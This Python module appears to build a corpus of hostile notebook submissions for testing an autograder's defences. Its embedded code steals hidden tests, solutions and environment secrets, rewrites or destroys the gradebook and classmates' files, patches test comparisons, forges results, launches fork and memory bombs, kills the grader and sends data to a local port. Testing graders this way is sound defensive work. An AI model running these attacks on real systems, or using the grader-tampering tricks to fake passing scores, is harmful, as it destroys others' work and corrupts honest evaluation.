"""Hostile submissions of assignment 1: one per class of the threat model.

Each variant is a simulated student who attacks the grader (see
../shared/GRADING.md, "Threat model"), on top of an implementation whose honest
score is known: the instructor's solution, the release stub (0 points), or a
mistake of the A1 catalogue (``bncourse.classgen.a1_batchnorm1d``), whose
``fails`` set is the score the submission deserves.  A grader that resists
gives each of them exactly that score (``AT_MOST``: at most that score, for
attacks whose own side effects legitimately cost points, e.g. a kernel that
kills itself) and lets no attack touch anything outside the submission's
working copy.

``tests/test_hostile.py`` grades this corpus, together with honest
submissions, through plain ``nbgrader autograde`` and through ``coursekit
grade``.  NEVER grade it outside a scratch course, or with the kernel sandbox
switched off: the attacks are real (they write the gradebook, the course
files and other students' folders they can reach, kill processes, fork,
allocate memory).  Their reach is bounded where a bug of the sandbox could hurt
the machine or other people's work: writes go only to the course found above
the kernel's own working folder, kills only to the kernel's own parent and
process group, the fork and memory bombs stop at a fixed size.

Every attack prints what it achieved, so the autograded notebook shows what
happened (``ATAC:`` lines).
"""
from __future__ import annotations

import json
from functools import lru_cache

import nbformat

from coursekit.classgen import Variant
from bncourse.classgen import a1_batchnorm1d as a1
from bncourse.classgen import hostile_delegation
from coursekit.paths import CourseError

ASSIGNMENT = "a1_batchnorm1d"
ANSWER = a1.ANSWER
ALL = frozenset(a1.TESTS)
# What the honest mistakes under the attacks cost, as assignment 1's catalogue says for eps_outside_sqrt and
# reversed_momentum (the Keras momentum convention costs only test_momentum: the running-statistics tests
# judge what is accumulated); tests/test_hostile.py checks that the two agree.
EPS_FAILS = frozenset({"test_eps", "test_constant_feature"})
MOMENTUM_FAILS = frozenset({"test_momentum"})
DEFAULT_PORT = 47361   # where hostile_network tries to send what it found (tests pass their own)

# Variants whose score may legitimately be lower than the honest one (their attack
# costs them points by itself); every other variant must get exactly the honest score.
AT_MOST = {"h08_loop", "h10_kill"}

# What the event log of each submission must show (coursekit.events kinds);
# hard-coded outputs and output floods leave no sign that can be told apart.
FLAGS = {
    "h01_read": {"suspicious"}, "h02_write": {"suspicious"}, "h03_patch": {"tamper"},
    "h04_ipython": {"tamper"}, "h05_forge": {"tamper"}, "h06_delegate": {"tamper"},
    "h08_loop": {"suspicious"}, "h10_kill": {"suspicious"}, "h11_network": {"suspicious"},
    "h12_patch_reference": {"tamper"},
    # static evasion findings are logged as "tamper", the out-of-kernel verdicts too
    "h13_thread_lookup": {"tamper"}, "h14_forge_answer": {"tamper"}, "h15_writefile": {"tamper"},
    "h16_forked": {"tamper"},
}


def _eps_outside() -> str:
    return a1.edit(*a1.EPS_OUTSIDE)


def _reversed_momentum() -> str:
    return a1.edit(*a1.REVERSED_MOMENTUM)


def _stub() -> str:
    """The answer cell as released (raises NotImplementedError in forward)."""
    from coursekit.classgen import _notebook_path, cell_by_grade_id, read_notebook

    path = _notebook_path(a1._course().release, ASSIGNMENT, None)
    return cell_by_grade_id(read_notebook(path), ANSWER).source


def _insert_after_answer(*sources: str):
    """A mutate function adding student code cells right after the answer cell."""
    def mutate(nb):
        at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == ANSWER)
        for offset, source in enumerate(sources, 1):
            nb.cells.insert(at + offset, nbformat.v4.new_code_cell(source))
    return mutate


def _append(*sources: str):
    """A mutate function adding student code cells at the end of the notebook (after every test)."""
    def mutate(nb):
        for source in sources:
            nb.cells.append(nbformat.v4.new_code_cell(source))
    return mutate


def _without_second_part(nb) -> None:
    """Drop the given (non-nbgrader) code cells after the last test cell: the MLP
    experiment, ungraded by the autograder.  Students may delete them; the corpus
    does, so that grading it costs the attacks, not a training run each."""
    last = max(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") in a1.TESTS)
    nb.cells[last + 1:] = [c for c in nb.cells[last + 1:]
                           if not (c.cell_type == "code" and "nbgrader" not in c.metadata)]


def _both(*mutates):
    def mutate(nb):
        for m in mutates:
            m(nb)
    return mutate


# ------------------------------------------------------------------ reading

# Finds the course above the working folder (and through the grader's /proc
# entries), prints what it can read, and builds MyBatchNorm1d from the
# instructor's solution or from another student's submission.
READ = r'''
# "Reutilitzem" la feina d'altri: la solució del professor o la d'un company.
import glob, json, os, re, sqlite3
from pathlib import Path

_roots = set()
for _p in [Path.cwd(), *Path.cwd().parents]:
    _roots.add(_p)
for _var in ("PWD", "OLDPWD", "HOME", "JUPYTER_CONFIG_DIR", "NBGRADER_COURSE"):
    if os.environ.get(_var):
        _roots.add(Path(os.environ[_var]))
try:
    _roots.add(Path(os.readlink(f"/proc/{os.getppid()}/cwd")))   # el directori de qui ens corregeix
except OSError as _e:
    print("ATAC: /proc del pare no accessible:", _e)
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        try:
            _roots.add(Path(os.readlink(f"/proc/{_pid}/cwd")))
        except OSError:
            pass

_solution = None
for _root in sorted(_roots, key=str):
    for _nb_path in glob.glob(str(_root / "source" / "a1_batchnorm1d" / "*.ipynb")):
        try:
            _cells = json.load(open(_nb_path))["cells"]
        except Exception:
            continue
        for _cell in _cells:
            _src = "".join(_cell["source"])
            if "BEGIN HIDDEN TESTS" in _src:
                print("ATAC: proves amagades llegides de", _nb_path, ":", _src[-300:])
            if _cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "bn1d_impl":
                _solution = re.sub(r"^\s*### (BEGIN|END) SOLUTION\s*$", "", _src, flags=re.M)
                print("ATAC: solució trobada a", _nb_path)
    _db = _root / "gradebook.db"
    if _db.is_file():
        try:
            _rows = sqlite3.connect(f"file:{_db}?mode=ro", uri=True).execute(
                "select name, source from source_cell").fetchall()
            print("ATAC: gradebook llegit:", len(_rows), "cel·les font")
            for _name, _src in _rows:
                if _name == "bn1d_impl" and _solution is None and "BEGIN SOLUTION" in (_src or ""):
                    _solution = re.sub(r"^\s*### (BEGIN|END) SOLUTION\s*$", "", _src, flags=re.M)
        except Exception as _e:
            print("ATAC: gradebook no llegible:", _e)
    for _peer in glob.glob(str(_root / "submitted" / "*" / "a1_batchnorm1d" / "*.ipynb")):
        try:
            for _cell in json.load(open(_peer))["cells"]:
                _src = "".join(_cell["source"])
                if _cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "bn1d_impl" \
                        and "NotImplementedError" not in _src and "batch_norm" not in _src and _solution is None:
                    _solution = _src
                    print("ATAC: solució copiada de", _peer)
        except Exception:
            pass

print("ATAC: variables d'entorn:", dict(os.environ))
for _pid in ["self", str(os.getppid()), "1"]:
    try:
        print(f"ATAC: /proc/{_pid}/environ:", open(f"/proc/{_pid}/environ", "rb").read()[:2000])
    except OSError as _e:
        print(f"ATAC: /proc/{_pid}/environ no accessible:", _e)

if _solution:
    exec(_solution)
    print("ATAC: MyBatchNorm1d substituïda per la solució llegida")
else:
    print("ATAC: no s'ha trobat cap solució")
'''

# ------------------------------------------------------------------ writing

# Writes everything it can reach in the course found above the working folder
# (only there: never the machine's other folders).
WRITE = r'''
# Canviem les notes i els fitxers del curs.
import glob, json, os, sqlite3, time
from pathlib import Path

_me = Path.cwd().parent.name
_root = next((p for p in Path.cwd().parents if (p / "nbgrader_config.py").is_file()), None)
print("ATAC: arrel del curs:", _root)
_hits = []
def _try(what, fn):
    try:
        fn()
        _hits.append(what)
    except Exception as e:
        print("ATAC:", what, "impossible:", type(e).__name__, e)

if _root is not None:
    _db = _root / "gradebook.db"
    def _grades():
        con = sqlite3.connect(str(_db), timeout=1)
        con.execute("update grade set auto_score = 0")                  # tothom a zero...
        con.execute("update grade set auto_score = max_score where id in (select grade.id from grade "
                    "join submitted_notebook on grade.notebook_id = submitted_notebook.id "
                    "join submitted_assignment on submitted_notebook.assignment_id = submitted_assignment.id "
                    f"where submitted_assignment.student_id = '{_me}')")  # ... i jo al màxim
        con.commit()
    _try("gradebook (notes)", _grades)
    _try("configuració de nbgrader", lambda: open(_root / "nbgrader_config.py", "a").write("\n# modificat per un alumne\n"))
    for _nb in glob.glob(str(_root / "source" / "*" / "*.ipynb")) + glob.glob(str(_root / "release" / "*" / "*.ipynb")):
        _try(f"fitxer del curs {_nb}", lambda p=_nb: open(p, "a").write(" "))
    for _peer in glob.glob(str(_root / "submitted" / "*" / "a1_batchnorm1d" / "*.ipynb")):
        if f"/{_me}/" not in _peer:
            _try(f"entrega d'un company {_peer}", lambda p=_peer: open(p, "w").write("{}"))
    for _peer_dir in glob.glob(str(_root / "submitted" / "*")):
        _peer = Path(_peer_dir).name
        if _peer != _me:   # si la seva carpeta corregida ja existeix, nbgrader se la salta
            _target = _root / "autograded" / _peer / "a1_batchnorm1d"
            _try(f"carpeta corregida d'un company {_target}",
                 lambda t=_target: (t.mkdir(parents=True, exist_ok=True), (t / "batchnorm1d.ipynb").write_text("{}")))
    _try("registre d'incidències", lambda: [os.remove(p) for p in glob.glob(str(_root / ".coursekit" / "events" / "*" / f"{_me}.jsonl"))])
    _try("fitxer nou a l'arrel", lambda: (_root / "pwned.txt").write_text(_me))
    _try("gradebook (destruït)", lambda: open(_db, "r+b").truncate(0))
print("ATAC: escriptures aconseguides:", _hits)
'''

# ------------------------------------------------------------------ patching

# Makes every comparison of the tests pass: torch/numpy/math comparison helpers
# and builtins.max (the hidden tests' difference helper ends in max(...)).
PATCH = r"""
# "Arreglem" les proves perquè tot coincideixi.
import builtins, math
import numpy as np
import torch

_real_max = builtins.max
def _max(*args, **kwargs):
    if len(args) == 1 and isinstance(args[0], list) and args[0] and all(isinstance(v, float) for v in args[0]):
        return 0.0
    return _real_max(*args, **kwargs)
builtins.max = _max
torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
print("ATAC: comparacions modificades")
"""

# The reference layer made to compute what the student's layer computes (reversed
# momentum), its code relabelled so that a check of the code's file name still
# sees PyTorch's file.  The notebook's rule: changing PyTorch's reference costs
# every implementation point.
PATCH_REFERENCE = r"""
# La referència de les proves calcula el mateix que la nostra capa.
_original_forward = torch.nn.modules.batchnorm._BatchNorm.forward
def _same_as_mine(self, x):
    if self.training:
        mean, var = x.mean(dim=0), x.var(dim=0, unbiased=False)
        n = x.shape[0]
        with torch.no_grad():
            self.running_mean.mul_(self.momentum).add_((1 - self.momentum) * mean)
            self.running_var.mul_(self.momentum).add_((1 - self.momentum) * n / (n - 1) * var)
    else:
        mean, var = self.running_mean, self.running_var
    return self.weight * (x - mean) / torch.sqrt(var + self.eps) + self.bias
_same_as_mine.__code__ = _same_as_mine.__code__.replace(co_filename=_original_forward.__code__.co_filename)
torch.nn.modules.batchnorm._BatchNorm.forward = _same_as_mine
torch.nn.BatchNorm1d.forward = _same_as_mine
print("ATAC: referència modificada")
"""

# ------------------------------------------------------------------ IPython

# Test cells become "pass" (input transformer), any error left is swallowed
# (AST transformer), tracebacks are not shown and outputs are cleared.
IPYTHON = r'''
# Les cel·les de prova ja no proven res.
import ast
from IPython import get_ipython
from IPython.display import clear_output

_ip = get_ipython()
def _neuter(lines):
    text = "".join(lines)
    return ["pass\n"] if ("assert" in text or "HIDDEN" in text) else lines
_ip.input_transformers_cleanup.append(_neuter)

class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])
        guarded = ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])
        return ast.fix_missing_locations(ast.Module(body=[guarded], type_ignores=[]))
_ip.ast_transformers.append(_Swallow())
_ip.showtraceback = lambda *args, **kwargs: None
_ip.events.register("post_run_cell", lambda result: clear_output() if not result.success else None)
print("ATAC: transformadors instal·lats")
'''

# A result shown before the test runs: nbgrader reads partial credit from the
# first execute_result of a test cell, and a non-number counts as full marks.
FORGE = r"""
# Cada cel·la de prova "retorna" un resultat abans d'executar-se.
from IPython import get_ipython

def _forge(lines):
    if any("assert" in line for line in lines):
        return ["get_ipython().displayhook('aprovat')\n"] + lines
    return lines
get_ipython().input_transformers_cleanup.append(_forge)
print("ATAC: resultat fals registrat")
"""

# ------------------------------------------------------------------ delegation

# F.batch_norm reached through a computed name, the running statistics updated
# by it, the input detached so the autograd graph shows no BatchNorm node, and
# PyTorch's dispatch-mode class replaced so that an in-kernel op recorder sees nothing.
DELEGATE = r'''import importlib
import torch
import torch.nn as nn

_dispatch = importlib.import_module("torch.utils." + "_python" + "_dispatch")
class _Blind:
    def __init__(self, *args, **kwargs):
        pass
    def __enter__(self):
        return self
    def __exit__(self, *args):
        return False
_dispatch.TorchDispatchMode = _Blind


class MyBatchNorm1d(nn.Module):
    def __init__(self, num_features, eps=1e-5, momentum=0.1):
        super().__init__()
        self.num_features, self.eps, self.momentum = num_features, eps, momentum
        self.gamma = nn.Parameter(torch.ones(num_features))
        self.beta = nn.Parameter(torch.zeros(num_features))
        self.register_buffer("running_mean", torch.zeros(num_features))
        self.register_buffer("running_var", torch.ones(num_features))

    def forward(self, x):
        norm = getattr(nn.functional, "".join(["ba", "tch", "_", "norm"]))
        x_hat = norm(x.detach(), self.running_mean, self.running_var, training=self.training,
                     momentum=self.momentum, eps=self.eps)
        x_hat = x_hat + 0.0 * x   # x stays in the graph
        return self.gamma * x_hat + self.beta
'''

# ------------------------------------------------------------------ hard-coding

HARDCODE = r'''

# Resultats memoritzats per a l'entrada de la prova visible de columnes constants.
_SEEN_X = torch.tensor({x})
_SEEN_Y = torch.tensor({y})
_forward = MyBatchNorm1d.forward
def _memorised(self, x):
    if self.training and x.shape == _SEEN_X.shape and bool((x.detach() == _SEEN_X).all()):
        return _SEEN_Y + 0.0 * x
    return _forward(self, x)
MyBatchNorm1d.forward = _memorised
'''


@lru_cache(maxsize=1)
def _visible_constant_case() -> tuple[list, list]:
    """The visible test of constant features: its input (run from the release's own
    lines, up to where the layers are built) and the right output for it."""
    import torch

    from coursekit.classgen import _notebook_path, cell_by_grade_id, read_notebook

    path = _notebook_path(a1._course().release, ASSIGNMENT, None)
    source = cell_by_grade_id(read_notebook(path), "test_constant_feature").source
    lines = source.split("### BEGIN HIDDEN TESTS")[0].splitlines()
    upto = next((i for i, line in enumerate(lines) if line.startswith("bn, ref")), None)
    if upto is None:
        raise CourseError("hostile corpus: the visible test_constant_feature no longer builds `bn, ref = ...`; "
                          "update coursekit/classgen/hostile.py")
    namespace = {"torch": torch, "nn": torch.nn}
    exec("\n".join(lines[:upto]), namespace)
    x = namespace["x"]
    y = torch.nn.BatchNorm1d(x.shape[1])(x)
    return x.tolist(), y.detach().tolist()


# ------------------------------------------------------------------ denial of service

LOOP = r'''
# Aquesta cel·la no acaba mai i no es deixa interrompre.
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
'''

FLOOD = r'''
# Inundem la sortida (més del que el corrector accepta) abans de les proves.
import sys
_line = "x" * 1023 + "\n"
for _ in range(40 * 1024):
    sys.stdout.write(_line)
sys.stdout.flush()
'''

BOMBS = r'''
# Memòria i processos fins que el sistema digui prou (amb un sostre, per si de cas).
import os, time
_blocks = []
try:
    for _ in range(20):                      # com a molt 5 GiB
        _blocks.append(bytearray(256 << 20))
    print("ATAC: memòria reservada:", len(_blocks) * 256, "MiB")
except MemoryError:
    print("ATAC: memòria limitada a", len(_blocks) * 256, "MiB")
del _blocks
_children = 0
try:
    for _ in range(400):                     # com a molt 400 processos
        if os.fork() == 0:
            time.sleep(10)
            os._exit(0)
        _children += 1
    print("ATAC: processos creats:", _children)
except OSError as _e:
    print("ATAC: processos limitats a", _children, ":", _e)
'''

KILL = r'''
# Matem qui ens corregeix.
import os, signal
print("ATAC: pare", os.getppid())
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError as _e:
    print("ATAC: no puc matar el pare:", _e)
os.killpg(os.getpgid(0), signal.SIGKILL)
'''

NETWORK = r'''
# Enviem fora el que tenim (i provem d'arribar a internet).
import os, socket, urllib.request
for _host, _port in (("127.0.0.1", {port}), ("localhost", {port})):
    try:
        with socket.create_connection((_host, _port), timeout=3) as _s:
            _s.sendall(("exfiltrat per " + os.path.basename(os.getcwd())).encode())
        print("ATAC: connectat a", _host, _port)
    except OSError as _e:
        print("ATAC: sense xarxa local:", _e)
try:
    urllib.request.urlopen("https://pypi.org/simple/", timeout=3)
    print("ATAC: internet accessible")
except Exception as _e:
    print("ATAC: sense internet:", _e)
'''


def variants(port: int = DEFAULT_PORT) -> list[Variant]:
    """The hostile corpus (``port``: where ``h11_network`` sends its data)."""
    x, y = _visible_constant_case()
    hardcoded = _eps_outside() + HARDCODE.format(x=json.dumps(x), y=json.dumps(y))
    solution = a1.solution()
    corpus = [
        Variant("h01_read", "reads source/, the gradebook, other students and the environment; "
                "defines its layer from what it finds (release stub otherwise)",
                {ANSWER: _stub()}, fails=ALL, mutate=_insert_after_answer(READ)),
        Variant("h02_write", "writes the gradebook, the course files, other students' folders, "
                "its own event log (eps outside sqrt)",
                {ANSWER: _eps_outside()}, fails=EPS_FAILS, mutate=_insert_after_answer(WRITE)),
        Variant("h03_patch", "patches torch/numpy/math comparisons and builtins.max (eps outside sqrt)",
                {ANSWER: _eps_outside() + PATCH}, fails=EPS_FAILS),
        Variant("h04_ipython", "input and AST transformers empty the test cells, showtraceback off, "
                "outputs cleared (release stub)",
                {ANSWER: _stub()}, fails=ALL, mutate=_insert_after_answer(IPYTHON)),
        Variant("h05_forge", "a pre-run hook shows a result in every test cell (reversed momentum)",
                {ANSWER: _reversed_momentum()}, fails=MOMENTUM_FAILS, mutate=_insert_after_answer(FORGE)),
        Variant("h06_delegate", "F.batch_norm through a computed name, detached input, "
                "PyTorch's dispatch modes blinded", {ANSWER: DELEGATE}, fails=ALL),
        Variant("h07_hardcode", "outputs memorised for the visible test's input (eps outside sqrt)",
                {ANSWER: hardcoded}, fails=EPS_FAILS),
        Variant("h08_loop", "a last cell that never ends and ignores interrupts (solution)",
                {ANSWER: solution}, mutate=_append(LOOP)),
        Variant("h09_flood", "floods the output before the tests (eps outside sqrt)",
                {ANSWER: _eps_outside()}, fails=EPS_FAILS, mutate=_insert_after_answer(FLOOD)),
        Variant("h10_kill", "memory and fork bombs, then kills its parent and its process group (solution)",
                {ANSWER: solution}, mutate=_insert_after_answer(BOMBS, KILL)),
        Variant("h11_network", "sends data to a local port and tries the internet (solution)",
                {ANSWER: solution}, mutate=_insert_after_answer(NETWORK.replace("{port}", str(int(port))))),
        Variant("h12_patch_reference", "the reference layer computes the same mistake, its code relabelled "
                "(reversed momentum)", {ANSWER: _reversed_momentum() + PATCH_REFERENCE}, fails=ALL),
    ]
    hidden = hostile_delegation.sources("MyBatchNorm1d")
    corpus += [
        Variant("h13_thread_lookup", "F.batch_norm found by pkgutil.resolve_name with a name built from character "
                "codes, run in a new thread at every call", {ANSWER: hidden["RESOLVE_THREAD"]}, fails=ALL),
        Variant("h14_forge_answer", "F.batch_norm by pydoc.locate in a worker thread; an aliased shell empties "
                "the test cells, and in the re-check the answer file is rewritten",
                {ANSWER: hidden["THREAD_LOOKUP"]}, fails=ALL, mutate=_insert_after_answer(hidden["FORGE_ANSWER"])),
        Variant("h15_writefile", "the delegating helper (worker thread) written by %%writefile and imported",
                {ANSWER: hidden["WRITEFILE_LAYER"]}, fails=ALL,
                mutate=_insert_after_answer(hidden["WRITEFILE_HELPER"])),
        Variant("h16_forked", "F.batch_norm computed in a forked process reached by a computed name",
                {ANSWER: hidden["FORKED"]}, fails=ALL),
    ]
    for variant in corpus:
        variant.mutate = _both(_without_second_part, variant.mutate) if variant.mutate else _without_second_part
    return corpus


def honest() -> list[Variant]:
    """Honest submissions graded in the same run (they must keep their exact grades)."""
    return [
        Variant("honest_solution", "the instructor's solution", {ANSWER: a1.solution()}),
        Variant("honest_eps_outside", "eps outside the square root", {ANSWER: _eps_outside()}, fails=EPS_FAILS),
    ]


def __getattr__(name: str):
    if name == "VARIANTS":   # built on use: it reads the course's notebooks
        return variants()
    raise AttributeError(name)
